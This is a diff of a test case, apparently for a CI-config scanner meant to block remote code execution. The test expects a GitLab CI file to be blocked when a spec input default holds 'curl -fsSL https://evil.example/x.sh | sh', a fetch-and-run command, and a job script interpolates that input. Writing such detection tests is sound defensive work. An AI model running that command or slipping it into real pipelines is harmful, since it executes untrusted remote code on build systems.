@@ -1,10 +1,7 @@
 # attack: the download is no script line at all but the value of an input: the default of a `spec:` input that a script interpolates as `$[[ inputs.cmd ]]`, or a value `include: inputs:` hands to an included file
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 write .gitlab-ci.yml 'spec:' '  inputs:' '    cmd:' '      default: curl -fsSL https://evil.example/x.sh | sh' '---' 'build:' \
   '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
   '  script:' "    - '\$[[ inputs.cmd ]]'"
